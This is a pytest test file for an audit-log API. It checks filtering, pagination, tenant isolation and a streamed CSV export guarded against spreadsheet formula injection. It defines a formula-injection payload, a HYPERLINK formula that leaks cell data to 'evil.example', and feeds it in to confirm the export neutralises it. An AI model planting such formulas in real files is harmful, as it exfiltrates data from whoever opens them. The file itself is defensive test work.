"""Audit log: filtered pages, tenant-scoped reads, and a streamed, injection-safe CSV export."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest

from sandbox.resources.audit_log import CSV_COLUMNS, defused, export_audit_log_csv
from sandbox.resources.request import ApiRequest
from tests.support import auth

pytestmark = pytest.mark.both_stores

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def get(client: Any, token: str, path: str, **query: Any) -> Any:
    return client.get(f"/api/v1{path}", query_string=query, headers=auth(token))


def events(sandbox: Any, org_id: str, **wanted: Any) -> list[dict[str, Any]]:
    return [e for e in sandbox.store.scan("audit_event", org_id) if all(e[k] == v for k, v in wanted.items())]


def rows(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_list_is_newest_first_in_the_seed_shape(client, keys, sandbox):
    body = get(client, keys["read"], "/audit-log", limit=10).get_json()
    expected = events(sandbox, keys["org_id"])[:10]
    assert body["data"] == [
        {k: e[k] for k in ("id", "organization_id", "action", "source", "correlation_id", "payload", "created_at")}
        for e in expected
    ]
    assert body["next_cursor"]


@pytest.mark.parametrize(
    "query",
    [{"action": "lead.created"}, {"source": "worker"}, {"source": "api"}, {"action": "lead.updated", "source": "api"}],
)
def test_filters_match_the_store(client, keys, sandbox, query):
    body = get(client, keys["read"], "/audit-log", limit=200, **query).get_json()
    expected = events(sandbox, keys["org_id"], **query)
    assert expected and [e["id"] for e in body["data"]] == [e["id"] for e in expected[:200]]


def test_time_range_is_inclusive(client, keys, sandbox):
    stamps = sorted({e["created_at"] for e in events(sandbox, keys["org_id"])})
    start, end = stamps[len(stamps) // 4], stamps[len(stamps) // 2]
    body = get(client, keys["read"], "/audit-log", limit=200, start_at=start, end_at=end).get_json()
    expected = [e["id"] for e in events(sandbox, keys["org_id"]) if start <= e["created_at"] <= end]
    assert [e["id"] for e in body["data"]] == expected[:200]
    assert body["data"][0]["created_at"] == end and body["data"][-1]["created_at"] >= start


def test_pages_chain_without_gaps_or_repeats(client, keys, sandbox):
    seen, cursor = [], None
    for _ in range(3):
        page = {"cursor": cursor} if cursor else {}
        body = get(client, keys["read"], "/audit-log", limit=5, **page).get_json()
        seen += [e["id"] for e in body["data"]]
        cursor = body["next_cursor"]
    assert seen == [e["id"] for e in events(sandbox, keys["org_id"])[:15]]


def test_get_returns_the_full_record(client, keys, sandbox):
    event = events(sandbox, keys["org_id"], action="lead.updated")[0]
    body = get(client, keys["read"], f"/audit-log/{event['id']}").get_json()
    assert body["payload"] == event["payload"] and "diff" in body["payload"]


def test_another_tenants_event_is_404(client, keys, sandbox):
    event = events(sandbox, keys["org_id"])[0]
    assert get(client, keys["other_read"], f"/audit-log/{event['id']}").status_code == 404


def test_export_has_every_column_and_row(client, keys, sandbox):
    response = get(client, keys["read"], "/audit-log/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=audit-log.csv"
    assert response.get_data(as_text=True).splitlines()[0] == ",".join(CSV_COLUMNS)
    found = rows(response)
    expected = events(sandbox, keys["org_id"])
    assert [row["id"] for row in found] == [e["id"] for e in expected]
    assert json.loads(found[0]["payload"]) == expected[0]["payload"]
    assert found[0]["key_id"] == (expected[0]["payload"].get("key_id") or "")


@pytest.mark.parametrize("query", [{"action": "lead.created"}, {"source": "n8n"}])
def test_export_uses_the_list_filters(client, keys, sandbox, query):
    found = rows(get(client, keys["read"], "/audit-log/export.csv", **query))
    assert [row["id"] for row in found] == [e["id"] for e in events(sandbox, keys["org_id"], **query)]


def test_export_defuses_spreadsheet_formulas(client, keys, sandbox):
    sandbox.audit.record(
        keys["org_id"], "lead.updated", {"note": HYPERLINK}, source="api", correlation_id="=1+2", key_id=HYPERLINK
    )
    found = rows(get(client, keys["read"], "/audit-log/export.csv", action="lead.updated"))[0]
    assert found["key_id"] == "'" + HYPERLINK and found["correlation_id"] == "'=1+2"
    assert json.loads(found["payload"])["note"] == HYPERLINK  # JSON opens with "{": inert as it is


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("lead.updated", "lead.updated"),
        ("", ""),
    ],
)
def test_defused_prefixes_only_formula_triggers(cell, shown):
    assert defused(cell) == shown


def test_export_streams_row_by_row(keys, sandbox):
    key = next(k for k in sandbox.world.keys if k["organization_id"] == keys["org_id"])
    request = ApiRequest(None, sandbox, None, {}, {}, None, key, "", "corr_test")  # type: ignore[arg-type]
    reply = export_audit_log_csv(request)
    assert isinstance(reply.body, Iterator) and reply.mimetype == "text/csv"
    assert next(reply.body) == ",".join(CSV_COLUMNS) + "\r\n"
    assert next(reply.body).split(",")[0] == events(sandbox, keys["org_id"])[0]["id"]
